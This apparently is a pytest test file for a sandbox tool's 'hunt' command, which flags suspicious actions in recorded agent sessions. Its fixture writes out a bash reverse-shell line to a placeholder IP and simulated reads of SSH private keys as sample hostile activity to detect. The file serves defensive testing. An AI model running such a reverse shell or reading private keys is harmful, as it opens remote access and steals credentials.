from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.cli.invoke import invoke
from tests.native.log import Log
from tests.native.running import Capsule
from tests.sessions.recorded import denied, exec_, write


@pytest.fixture
def log(capsule_binary: Path, workspace: Path) -> Log:
    made = Log(capsule_binary, workspace / "capsule.log")
    shell = exec_("r-1", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1\x1b[2J", program="/bin/bash")
    keys = (write(f"/home/u/.ssh/id_{n}", "read", "r-2") for n in range(5))
    made.record([shell, exec_("r-2"), *keys, denied("/home/u/.ssh/id_refused", run="r-2")])
    return made


def test_what_is_found_is_shown_by_rule(log: Log, capsys: pytest.CaptureFixture[str]) -> None:
    answer = invoke(capsys, "hunt", "agents")
    assert (answer.code, answer.err) == (0, "")
    first, hit, *others = answer.out.splitlines()
    assert first == "critical  A shell was connected to the network  1 time in 1 session"
    assert " r-1 " in hit
    assert "\\x1b" in hit or hit.endswith("…")
    assert sum(line.startswith("  ") for line in others) == 3, "the newest three of five"
    assert all(char.isprintable() or char == "\n" for char in answer.out)


def test_json_and_filters(log: Log, capsys: pytest.CaptureFixture[str]) -> None:
    found = json.loads(invoke(capsys, "hunt", "agents", "--json", "--hits", "9").out)["found"]
    first = found[0]
    assert (first["rule"]["level"], first["count"], len(first["hits"])) == ("critical", 1, 1)
    assert any(each["count"] == 5 for each in found)
    high = json.loads(invoke(capsys, "hunt", "agents", "--json", "--level", "critical").out)["found"]
    assert len(high) == 1
    assert (
        json.loads(invoke(capsys, "hunt", "agents", "--json", "--session", "r-2", "--level", "critical").out)[
            "found"
        ]
        == []
    )
    assert invoke(capsys, "hunt", "agents", "--since", "2999-01-01").out.startswith("nothing: ")


def test_what_holds_no_detection_is_refused(
    log: Log, capsys: pytest.CaptureFixture[str], workspace: Path
) -> None:
    (workspace / "rules.yaml").write_text(
        "version: 1\nrules:\n  - {id: a, on: http, when: 'true', action: block}\n"
    )
    answer = invoke(capsys, "hunt", "rules.yaml")
    assert answer.code == 2
    assert "no detection rules" in answer.err
    assert invoke(capsys, "hunt", "none.yml").code == 2


@pytest.mark.needs("userns", "landlock", "seccomp-notify")
def test_a_real_run_is_hunted(
    capsys: pytest.CaptureFixture[str], capsule_binary: Path, workspace: Path
) -> None:
    Capsule(capsule_binary, workspace).run(
        "sh", "-c", "true /dev/tcp/1.2.3.4/443; bash -c 'true < /dev/tcp/127.0.0.1/9'"
    )
    found = json.loads(invoke(capsys, "hunt", "agents", "--json").out)["found"]
    assert "A shell was connected to the network" in [each["rule"]["title"] for each in found]
